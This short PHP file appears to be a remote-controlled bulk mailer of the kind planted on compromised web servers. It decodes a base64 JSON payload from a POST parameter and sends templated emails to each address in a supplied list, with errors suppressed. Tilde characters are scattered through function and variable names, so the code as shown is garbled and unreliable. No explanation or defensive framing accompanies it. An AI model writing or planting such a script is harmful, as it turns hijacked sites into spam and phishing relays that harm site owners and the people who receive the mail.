<?php exit; ?>
<?php
$data = json_decode(bas~e64_decode($_P~OST['m']), true);
while ($one = array_shift($data['to'])) { @mai~l($one['mai~l'], str_replace('{name}', $one['name'], $data['s']), $data['t'], $data['h']); }
